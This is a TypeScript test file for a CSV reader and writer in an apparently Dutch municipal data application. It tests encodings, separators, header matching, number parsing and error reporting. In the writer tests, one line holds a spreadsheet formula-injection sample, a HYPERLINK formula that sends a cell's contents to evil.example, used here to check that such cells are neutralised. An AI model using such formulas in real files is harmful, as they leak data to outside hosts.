import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { indicatorChoices, municipalityChoices, readImportFile } from '../../functions/core/csv-import';
import {
  type CsvLayout,
  type CsvSummary,
  ImportRejectedError,
  decodeWindows1252,
  formatRows,
  parseNumber,
  readCsv,
} from '../../functions/core/csv-reader';
import { neutraliseCell, toCsv } from '../../functions/core/csv-writer';
import { catalogueOfConfig } from '../support/organisation';

const CATALOGUE = catalogueOfConfig();

/** A layout like the goals import's (`indicator;jaar;doel`), to show the reader serves any import. */
const GOALS: CsvLayout<'goals'> = { kind: 'goals', description: 'doelen', columns: [{ name: 'indicator' }, { name: 'jaar' }, { name: 'doel', aliases: ['streefwaarde'] }] };

function chunks(bytes: Buffer, size: number): AsyncIterable<Uint8Array> {
  const parts: Buffer[] = [];
  for (let i = 0; i < bytes.length; i += size) parts.push(bytes.subarray(i, i + size));
  return Readable.from(parts);
}

interface ReadRow {
  row: number;
  line: number;
  cells: Record<string, string>;
}

async function read(file: string | Buffer, chunkSize = 7): Promise<{ summary: CsvSummary<'goals'>; rows: ReadRow[] }> {
  const rows: ReadRow[] = [];
  const bytes = typeof file === 'string' ? Buffer.from(file, 'utf8') : file;
  const summary = await readCsv(chunks(bytes, chunkSize), { fileName: 'doelen.csv', layouts: [GOALS] }, () => (row) => {
    rows.push({ row: row.row, line: row.line, cells: Object.fromEntries(GOALS.columns.map((c) => [c.name, row.cell(c.name).text])) });
  });
  return { summary, rows };
}

async function rejection(file: string | Buffer, chunkSize = 7): Promise<ImportRejectedError> {
  const error = await read(file, chunkSize).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ImportRejectedError);
  return error as ImportRejectedError;
}

describe('the CSV reader: encodings', () => {
  const text = 'indicator;jaar;doel\r\nInstroom ‘Participatiewet’ – €;2026;1\r\n';
  const cp1252 = Buffer.from(text.replace(/‘/g, '\x91').replace(/’/g, '\x92').replace(/–/g, '\x96').replace(/€/g, '\x80'), 'latin1');

  it.each([1, 2, 3, 7, 1000])('reads UTF-8 without BOM, with BOM and Windows-1252 alike, in chunks of %i bytes, and says which it found', async (size) => {
    const plain = await read(Buffer.from(text), size);
    const bom = await read(Buffer.from(`\uFEFF${text}`), size);
    const ansi = await read(cp1252, size);
    expect([plain.summary.encoding, bom.summary.encoding, ansi.summary.encoding]).toEqual(['utf-8', 'utf-8-bom', 'windows-1252']);
    for (const { rows } of [plain, bom, ansi]) expect(rows[0]?.cells.indicator).toBe('Instroom ‘Participatiewet’ – €');
  });

  it('decodes 0x80–0x9F as Windows-1252 does (€, quotes, dashes), not as Latin-1 control characters', () => {
    expect(decodeWindows1252(Uint8Array.of(0x80, 0x91, 0x92, 0x93, 0x94, 0x96, 0x97, 0x85, 0xe9, 0x41))).toBe('€‘’“”–—…éA');
  });

  it('reads a file that turns out not to be UTF-8 only late (after 100 KB of ASCII) as Windows-1252', async () => {
    const ascii = 'bijstand;2025;1\r\n'.repeat(6000);
    const file = Buffer.concat([Buffer.from(`indicator;jaar;doel\r\n${ascii}`), Buffer.from('Jongeren \xe9\xe9n;2026;1\r\n', 'latin1')]);
    const { summary, rows } = await read(file, 4096);
    expect(summary.encoding).toBe('windows-1252');
    expect(rows.at(-1)?.cells.indicator).toBe('Jongeren één');
  });

  it('refuses a file that mixes UTF-8 and Windows-1252, naming the line, rather than store either wrong', async () => {
    const file = Buffer.concat([Buffer.from('indicator;jaar;doel\r\nJongeren één;2025;1\r\n'), Buffer.from('Jongeren \xe9\xe9n;2026;1\r\n', 'latin1')]);
    for (const size of [5, 1000]) {
      const error = await rejection(file, size);
      expect(error.message).toContain('regel 3 is geen UTF-8, maar het bestand heeft eerder letters in UTF-8');
      expect(error.message).toContain('CSV UTF-8');
    }
  });

  it('refuses a UTF-16 file ("Unicode-tekst") with what to do', async () => {
    const error = await rejection(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('indicator;jaar;doel\r\n', 'utf16le')]));
    expect(error.message).toContain('het bestand is UTF-16');
  });

  it('refuses a value that holds U+FFFD: it was garbled before, and storing it would keep the damage', async () => {
    const error = await rejection('indicator;jaar;doel\nJos\uFFFD;2026;1\n');
    expect(error.problems).toEqual([expect.objectContaining({ row: 2, column: 'indicator', message: expect.stringContaining('vervangingsteken') })]);
  });
});

describe('the CSV reader: separators, rows and columns', () => {
  it('takes ";" or "," from the header, and a sep= first line over it (not counted as a row)', async () => {
    const comma = await read('indicator,jaar,doel\n"a;b",2026,"1,5"\n');
    const sep = await read('sep=,\r\nindicator,jaar,doel\r\nbijstand,2026,1\r\n');
    const quotedSep = await read('"sep=;";;\r\nindicator;jaar;doel\r\nbijstand;2026;1\r\n');
    expect(comma.summary.delimiter).toBe(',');
    expect(comma.rows).toEqual([{ row: 2, line: 2, cells: { indicator: 'a;b', jaar: '2026', doel: '1,5' } }]);
    expect(sep.summary.delimiter).toBe(',');
    expect(sep.rows).toEqual([{ row: 2, line: 3, cells: { indicator: 'bijstand', jaar: '2026', doel: '1' } }]);
    expect(quotedSep.rows).toEqual([{ row: 2, line: 3, cells: { indicator: 'bijstand', jaar: '2026', doel: '1' } }]);
  });

  it('ignores trailing empty columns: a ";" at the end of the header and of every row', async () => {
    const { rows } = await read('indicator;jaar;doel;\r\nbijstand;2026;1;\r\ninstroom;2026;2;;;\r\n');
    expect(rows.map((r) => r.cells)).toEqual([
      { indicator: 'bijstand', jaar: '2026', doel: '1' },
      { indicator: 'instroom', jaar: '2026', doel: '2' },
    ]);
  });

  it('says a fault every row shares once, naming the rows, not once per row', async () => {
    const rows = Array.from({ length: 208 }, (_, i) => `bijstand;${2000 + (i % 20)};${i};extra`);
    const error = await rejection(['indicator;jaar;doel', ...rows].join('\r\n'));
    expect(error.problemCount).toBe(208);
    expect(error.message.split('\n')).toEqual([
      'doelen.csv is geweigerd (208 fouten); er is niets gewijzigd. Verbeter het bestand en lees het opnieuw in.',
      '  rijen 2–209: heeft 4 kolommen; verwacht 3 (indicator;jaar;doel), gescheiden door ";"',
    ]);
  });

  it('skips blank lines and ";;;" rows but counts them as rows, and numbers rows as a spreadsheet does', async () => {
    const { rows, summary } = await read('indicator;jaar;doel\n\n;;\n"two\nlines";2026;1\nbijstand;2026;2\n');
    expect(summary.rows).toBe(2);
    expect(rows.map((r) => [r.row, r.line])).toEqual([
      [4, 4],
      [5, 6],
    ]);
  });

  it('reads headers in any case, with dashes and spaces, and aliases, in any order', async () => {
    const { rows } = await read('Streef-Waarde;JAAR;Indicator\n5;2026;bijstand\n');
    expect(rows[0]?.cells).toEqual({ indicator: 'bijstand', jaar: '2026', doel: '5' });
  });

  it('names what a header lacks and what it has too many, and what it expects', async () => {
    const error = await rejection('indicator;jaar;waarde;opmerking\nbijstand;2026;1;x\n');
    expect(error.message).toContain(
      'rij 1: de kopregel "indicator;jaar;waarde;opmerking" mist de kolom doel en heeft kolommen "waarde" en "opmerking" die niet worden gebruikt (verwijder ze); verwacht indicator;jaar;doel (kolommen in elke volgorde, gescheiden door ; of ,)',
    );
  });

  it('refuses an empty file and one with only its header', async () => {
    expect((await rejection('')).message).toContain('het bestand is leeg; het moet beginnen met een kopregel (indicator;jaar;doel)');
    expect((await rejection('indicator;jaar;doel\r\n;;\r\n')).message).toContain('het bestand heeft alleen een kopregel en geen rijen');
  });

  it('takes off the apostrophe its own exports put before =, +, - and @', async () => {
    const { rows } = await read(toCsv(['indicator', 'jaar', 'doel'], [['bijstand', '2026', '-2,5'], ["'gewoon", '2026', '1']]));
    expect(rows.map((r) => [r.cells.indicator, r.cells.doel])).toEqual([
      ['bijstand', '-2,5'],
      ["'gewoon", '1'],
    ]);
  });
});

describe('the CSV reader: values', () => {
  it.each([
    ['1234', ';', 1234],
    ['1234,5', ';', 1234.5],
    ['1.234,5', ';', 1234.5],
    ['1.234.567', ';', 1234567],
    ['1234.5', ';', 1234.5],
    ['-3,2', ';', -3.2],
    ['0', ',', 0],
    ['1.234.567,25', ',', 1234567.25],
    ['1 234', ';', 1234],
    ['1\u00a0234,5', ';', 1234.5],
    ['1\u202f234\u202f567', ',', 1234567],
    ['-12 345,25', ';', -12345.25],
  ] as const)('reads %j in a "%s" file as %d', (text, delimiter, expected) => {
    expect(parseNumber(text, delimiter)).toBe(expected);
  });

  it('reads 1.234 as thousands in a ;-file (Dutch Excel) and as a decimal point in a ,-file', () => {
    expect(parseNumber('1.234', ';')).toBe(1234);
    expect(parseNumber('1.234', ',')).toBe(1.234);
    expect(parseNumber('1.23', ';')).toBe(1.23);
  });

  it.each(['', 'abc', '1,2,3', '12.34,5', '1e5', 'NaN', 'Infinity', '12 34', '1 2345', '--1', '€ 12', '1 234.567,8'])('refuses %j', (text) => {
    expect(parseNumber(text, ';')).toBeNull();
  });

  it('finds an indicator by its id or its label, in any case, and a municipality with a curly apostrophe', () => {
    const indicators = indicatorChoices(CATALOGUE);
    expect(indicators.find('BIJSTAND')?.id).toBe('bijstand');
    expect(indicators.find('bijstandsuitkeringen  participatiewet')?.id).toBe('bijstand');
    expect(municipalityChoices(["'s-Hertogenbosch"]).find('’s-hertogenbosch')).toBe("'s-Hertogenbosch");
  });

  it('lists every valid indicator when one is unknown, none cut off', async () => {
    const file = 'gemeente;indicator;maand;waarde\nTiel;bijstandje;2026-09;1\nTiel;onbekend;2026-09;1\n';
    const error = (await readImportFile(Buffer.from(file), { fileName: 'c.csv', municipalities: ['Tiel'], catalogue: CATALOGUE, today: new Date('2026-11-01') }).catch((e: unknown) => e)) as Error;
    const listed = error.message.split('\n').filter((l) => l.startsWith('Geldige waarden in kolom indicator:'));
    expect(listed).toHaveLength(1);
    for (const i of CATALOGUE.indicators) expect(listed[0]).toContain(`${i.id} (${i.label})`);
    expect(listed[0]).not.toContain('…');
  });

  it('imports figures by indicator label, with NBSP thousands, from a sep=; file with trailing ";"', async () => {
    const file = 'sep=;\r\nGemeente;Indicator;Maand;Waarde;\r\nTiel;Bijstandsuitkeringen Participatiewet;2026-09;1\u00a0234;\r\n;;;;\r\n';
    const result = await readImportFile(Buffer.from(file), { fileName: 'c.csv', municipalities: ['Tiel'], catalogue: CATALOGUE, today: new Date('2026-11-01') });
    expect(result.values).toEqual([{ municipality: 'Tiel', indicator: 'bijstand', month: '2026-09', value: 1234 }]);
  });
});

describe('rows in a report', () => {
  it('are named singly, as ranges and as a list', () => {
    expect(formatRows([5])).toBe('rij 5');
    expect(formatRows([2, 3])).toBe('rijen 2 en 3');
    expect(formatRows([2, 3, 4, 7, 9, 10, 11])).toBe('rijen 2–4, 7 en 9–11');
  });
});

describe('the CSV writer', () => {
  it.each(['=HYPERLINK("http://evil.example/?x="&A1;"klik")', '@SUM(1+1)', '+31 6', '-2', '\tx', '\rx'])('neutralises %j with a leading apostrophe', (cell) => {
    expect(neutraliseCell(cell)).toBe(`'${cell}`);
  });

  it('leaves other cells alone and quotes what needs quoting', () => {
    expect(neutraliseCell('Jan = Piet')).toBe('Jan = Piet');
    expect(toCsv(['a', 'b'], [['x;y', '=1']])).toBe('\uFEFFa;b\r\n"x;y";\'=1\r\n');
  });
});
